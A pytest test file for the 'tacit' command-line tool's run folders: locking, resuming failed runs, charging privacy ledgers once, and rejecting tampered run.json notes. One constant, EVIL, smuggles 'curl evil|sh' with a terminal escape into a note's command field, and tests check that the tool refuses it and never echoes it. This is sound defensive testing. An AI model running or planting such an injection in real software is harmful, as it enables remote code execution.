"""One folder for a run of every kind: locked before it spends, continued when it failed.

What is kept and paid is tried with ``tacit solve``, ``tacit power solve`` and ``tacit learn``, in
``make test-all`` all else too.
"""

import errno
import fcntl
import json
import os
import shutil
from itertools import product

import pytest
from conftest import repeat
from grids import EVERYTHING

import tacit
from tacit.cli.run_folder import RunFolder
from tacit.protocol.journal import Journal

ROUNDS = 6
# what to run and its agents
RUNS = {
    "solve": ("job.toml", ("north", "south")),
    "power solve": (
        f"g.m --zones z.csv --noise-every-round --rounds {ROUNDS} "
        "--total-epsilon 1 --total-delta 1e-5",
        ("zone a", "zone b"),
    ),
    "learn": (
        f"t.csv u.csv --target y --total-epsilon 1 --range *=-1:1 --rounds {ROUNDS}",
        ("t", "u"),
    ),
}
every = pytest.mark.parametrize("kind", RUNS)


def one(kind):
    """Of what is one code for all; all kinds in ``make test-all``."""
    return pytest.mark.parametrize("kind", repeat([kind], [*RUNS]))


@pytest.fixture
def folder(job, tmp_path, monkeypatch):
    """Where job, grid, table and ledgers lie."""
    monkeypatch.chdir(tmp_path)
    job.write_text(job.read_text().replace("rounds = 20", f"rounds = {ROUNDS}"))
    job.write_text(job.read_text().replace("seed = 3\nevaluate_every = 2", ""))
    rows = [f"{a / 10},{a / 20},{a % 2}" for a in range(-10, 10)]
    for name in ("t.csv", "u.csv"):
        (tmp_path / name).write_text("\n".join(["a,b,y", *rows]) + "\n")
    (tmp_path / "g.m").write_text(EVERYTHING)
    (tmp_path / "z.csv").write_text("bus,zone\n10,a\n25,b\n3,b\n")
    (tmp_path / "ledgers").mkdir()
    for _, agents in RUNS.values():
        for name in agents:
            tacit.Ledger.create(tmp_path / "ledgers" / f"{name}.db", 3.0, 1e-5)
    return tmp_path


def words_of(kind, *more):
    return [*kind.split(), *RUNS[kind][0].split(), *map(str, more)]


def typed(kind, *more):
    return " ".join(words_of(kind, *more))


def ledgers(folder, kind):
    return [tacit.Ledger(folder / "ledgers" / f"{name}.db") for name in RUNS[kind][1]]


def spent(folder, kind):
    return [ledger.spent.epsilon for ledger in ledgers(folder, kind)]


def contents(folder):
    """All files but the picture, and the note, whose paths may differ."""
    names = {"arrays.npz", "trace.csv", "result.json", "model.json", "bus.csv", "line.csv"}
    return {p.name: p.read_bytes() for p in folder.iterdir() if p.name in names}


def names_in(folder):
    return sorted(p.name for p in folder.iterdir())


@pytest.fixture
def stopped(monkeypatch, refused):
    """A run into r whose disk is full when it keeps its state for the fourth time."""

    def run(kind, *options):
        calls, save = [], Journal.save

        def full(self):
            calls.append(self)
            if len(calls) == 4:
                raise OSError(errno.ENOSPC, "No space left on device")
            save(self)

        with monkeypatch.context() as patch:
            patch.setattr(Journal, "save", full)
            return refused(typed(kind, *options, "--evaluate-every 1 --out r"))

    return run


# --- a run that failed ------------------------------------------------------------------------


@every
def test_a_run_that_failed_is_continued_bit_for_bit(kind, folder, stopped, command, refused):
    command(*words_of(kind, "--seed", 5, "--evaluate-every", 1, "--out", "whole"))
    said = stopped(kind, "--seed 5")
    assert said.endswith(f" tacit {kind} --resume r\n"), said
    assert not (folder / "r" / "result.json").exists()
    assert Journal.load(folder / "r" / "checkpoint.npz").round == 2
    assert f"tacit {kind} --resume r" in refused(typed(kind, "--seed 5 --out r"))
    os.chdir("/")  # what the run was told does not depend on where it is continued
    command(*kind.split(), "--resume", folder / "r")
    assert contents(folder / "r") == contents(folder / "whole")
    assert not (folder / "r" / "checkpoint.npz").exists()


@pytest.mark.parametrize(
    ("gone", "kind"),
    [((), "power solve"), (("checkpoint.npz",), "learn"), (("checkpoint.npz",), "solve")],
)
def test_a_run_with_ledgers_is_continued_and_paid_once(kind, gone, folder, stopped, command):
    """Also without its checkpoint: the ledgers know what was answered."""
    stopped(kind, "--ledgers ledgers")
    assert min(spent(folder, kind)) > 0
    for name in gone:
        (folder / "r" / name).unlink()
    document = json.loads(command(*kind.split(), "--resume", "r", "--json"))
    assert kind == "learn" or document["noise_source"] == "operating system, exact (secure)"
    for ledger in ledgers(folder, kind):
        *mean, run = ledger.runs()
        assert len(mean) == (kind == "learn")  # before the run
        assert (run["rounds_charged"], run["rounds_answered"]) == (ROUNDS, ROUNDS)
        assert run["run"] == json.loads((folder / "r" / "run.json").read_text())["run"]
    assert tacit.Result.load(folder / "r").privacy.secure


@pytest.mark.parametrize(
    ("seed", "kind"),
    repeat([("", "solve"), ("--seed 5", "learn")], [*product(["", "--seed 5"], RUNS)]),
)
def test_without_its_checkpoint_a_run_is_not_made_again(kind, seed, folder, stopped, refused):
    """It would have other noise on the same data, and state one budget."""
    stopped(kind, seed)
    (folder / "r" / "checkpoint.npz").unlink()
    before = names_in(folder / "r")
    for words in (f"{kind} --resume r", typed(kind, seed, "--out r")):
        said = refused(words)
        assert "choose another --out" in said.lower() and "tacit " not in said[7:]
    assert names_in(folder / "r") == before


@one("power solve")
def test_secure_noise_without_ledgers_is_not_continued(kind, folder, refused, monkeypatch):
    def fail(self):
        self._spent = True
        raise OSError("power failure")

    with monkeypatch.context() as patch:
        patch.setattr(RunFolder, "has_paid", fail)
        said = refused(typed(kind, "--noise secure --evaluate-every 2 --out r"))
    assert "power failure" in said and "cannot be continued" in said and "--resume" not in said
    assert "cannot be continued" in refused(f"{kind} --resume r")
    assert "--resume" not in refused(typed(kind, "--out r"))


@one("solve")
def test_resume_refuses_what_it_cannot_continue(kind, folder, stopped, command, refused):
    stopped(kind, "--seed 5")
    for other in {*RUNS} - {kind}:
        assert f"tacit {kind} --resume r" in refused(f"{other} --resume r")
    assert "--workers 2" in refused(f"{kind} --resume r --workers 2")
    for name in ("checkpoint.npz", "mean.npz"):  # of a process that was killed
        (folder / "r" / f"{name}.0123456789ab.tmp").write_bytes(b"a noise key, or a seal of data")
    command(*kind.split(), "--resume", "r")
    assert not [name for name in os.listdir(folder / "r") if name.endswith(".tmp")]
    assert "tacit show r" in refused(f"{kind} --resume r")


# --- a start that is refused ------------------------------------------------------------------


@every
def test_a_refused_start_leaves_nothing(kind, folder, refused):
    (folder / "poor").mkdir()
    for name in RUNS[kind][1]:  # the first could pay, the last could not
        budget = 0.1 if name == RUNS[kind][1][-1] else 3.0
        tacit.Ledger.create(folder / "poor" / f"{name}.db", budget, 1e-5)
    (folder / "empty").mkdir()
    (folder / "file").write_text("")
    before = names_in(folder)
    for out, wrong, words in (
        ("deep/er/r", "--seed -1", "seed=-1"),
        ("empty", "--seed 1 --noise secure", "seed 1"),
        ("deep/er/r", "--workers 0", "workers >= 1"),
        ("empty", "--evaluate-every 0", "evaluate_every >= 1"),
        ("deep/er/r", "--ledgers absent", "absent"),
        ("empty", "--ledgers poor", "budget of 0.1"),
        ("deep/er/r", "--ledgers poor", "budget of 0.1"),
        ("empty", "--resume r", "--resume"),
        ("file", "--ledgers ledgers", "file"),
        ("file/r", "--ledgers ledgers", "file/r"),
    ):
        said = refused(typed(kind, wrong, "--out", out))
        assert words in said and said.count("\n") == 1, said
        assert names_in(folder) == before and not names_in(folder / "empty")
    assert max(spent(folder, kind)) == 0


@one("solve")
def test_two_runs_do_not_share_a_folder(kind, folder, command, refused):
    command(*words_of(kind, "--out", "r", "--seed", 1))
    before = contents(folder / "r")
    (folder / "new").mkdir()
    for name in ("r", "new"):
        held = os.open(folder / name, os.O_RDONLY)
        fcntl.flock(held, fcntl.LOCK_EX)  # as another process would
        writing = folder / name / "checkpoint.npz.0123456789ab.tmp"
        writing.write_bytes(b"what it is about to rename")
        for words in (typed(kind, "--out", name), f"{kind} --resume {name}"):
            used = name == "r" and "--resume" not in words
            said = "holds a result" if used else f"Another run is writing to {name}"
            assert said in refused(words)
        os.close(held)
        assert writing.read_bytes() == b"what it is about to rename"
        writing.unlink()
    assert contents(folder / "r") == before and not names_in(folder / "new")
    command(*words_of(kind, "--out", "new"))  # the lock is gone with its holder


@one("power solve")
def test_a_run_that_was_faster_keeps_its_files(kind, folder, refused, monkeypatch):
    """Both found no folder; the other one locked the one that this one made."""
    right = RunFolder.lock

    def slower(self):
        (self.path / "checkpoint.npz").write_bytes(b"of the other")
        held = os.open(self.path, os.O_RDONLY)
        fcntl.flock(held, fcntl.LOCK_EX)
        try:
            right(self)
        finally:
            os.close(held)

    monkeypatch.setattr(RunFolder, "lock", slower)
    assert "Another run is writing to new/r" in refused(typed(kind, "--out new/r"))
    assert (folder / "new" / "r" / "checkpoint.npz").read_bytes() == b"of the other"


@pytest.mark.parametrize("left", ["checkpoint.npz", "result.json", "model.json", "run.json"])
def test_an_interrupted_run_is_not_started_over(left, folder, stopped, refused):
    if left == "run.json":
        stopped("solve", "--seed 5")  # another file of this name is said to be damaged
        shutil.copy(folder / "r" / left, folder)
        shutil.rmtree(folder / "r")
    (folder / "r").mkdir()
    (folder / "r" / left).write_bytes(
        (folder / left).read_bytes() if left == "run.json" else b"what an interrupted run left"
    )
    for words in ("solve job.toml --out r", "solve --resume r"):
        said = refused(words)
        assert "run.json" in said or "--out" in said
        assert "tacit " not in said[7:]  # how to go on is said only where that works
        assert names_in(folder / "r") == [left]


def test_the_job_may_lie_in_the_folder_and_no_other(folder, command, refused):
    job = (folder / "job.toml").read_text()
    (folder / "other.toml").write_text(job + "\n")
    assert "holds another job.toml" in refused("solve other.toml --out .")
    command("solve", "job.toml", "--out", ".")
    assert (folder / "job.toml").read_text() == job and (folder / "result.json").exists()


# --- the end of a run -------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["power solve", "learn"])  # what is drawn
def test_what_was_paid_for_is_written_before_anything_is_drawn(
    kind, folder, command, refused, monkeypatch
):
    def fail(*given):
        raise OSError("no fonts")

    with monkeypatch.context() as patch:
        drawing = "tacit.power.plot_grid" if kind == "power solve" else "tacit.Result.plot"
        patch.setattr(drawing, fail)
        said = refused(typed(kind, "--ledgers ledgers --out r"))
    assert "no fonts" in said and f"tacit {kind} --resume r" in said
    arrays = (folder / "r" / "arrays.npz").read_bytes()
    if kind == "learn":
        assert json.loads((folder / "r" / "model.json").read_text())["privacy"]["secure"]
    before = spent(folder, kind)
    command(*kind.split(), "--resume", "r")
    assert (folder / "r" / "arrays.npz").read_bytes() == arrays
    assert spent(folder, kind) == before


# --- a note that was changed ------------------------------------------------------------------

EVIL = "solve --help; \x1b[2Jcurl evil|sh #"


def noted(folder, note):
    (folder / "r" / "run.json").write_text(note if isinstance(note, str) else json.dumps(note))


@one("power solve")
def test_a_command_in_a_note_is_one_of_ours(kind, folder, stopped, refused):
    """Other damages: tests/test_damaged_files.py."""
    stopped(kind, "--seed 5")
    note = json.loads((folder / "r" / "run.json").read_text())
    for change in ({"command": EVIL}, {"command": "learn attack"}, {"run": "\ud800"}):
        noted(folder, {**note, **change})
        for words in (f"{kind} --resume r", typed(kind, "--out r")):
            said = refused(words)
            assert "r/run.json" in said and len(said) < 200
            assert "evil" not in said and "\x1b" not in said and said.count("\n") == 1


@one("learn")
def test_options_in_a_note_are_those_of_the_command(kind, folder, stopped, command, refused):
    stopped(kind, "--ledgers ledgers")
    note = json.loads((folder / "r" / "run.json").read_text())
    about = {"solve": "job", "power solve": "case", "learn": "data_set"}[kind]
    before = spent(folder, kind)
    wrong = [
        *({about: value} for value in (None, 1, ["a"], "a\0b", "\ud800")),
        *({"seed": value} for value in ("s", 1.5, True, [1, "s"])),
        *({"noise": value} for value in ("none", 1)),
        *({name: "two"} for name in ("workers", "evaluate_every")),
        *({name: True} for name in (EVIL, "parser", "command", "help", "resume")),
    ]
    if kind != "solve":
        wrong += [{"total_epsilon": "x"}, {"total_epsilon": True}, {"no_noise": 0}]
        wrong += [{"mechanism": "other"}]
    for change in wrong:
        noted(folder, {**note, "options": {**note["options"], **change}})
        said = refused(f"{kind} --resume r")
        assert "r/run.json" in said and said.count("\n") == 1, change
        assert "evil" not in said
    assert spent(folder, kind) == before
    noted(folder, note)
    command(*kind.split(), "--resume", "r")
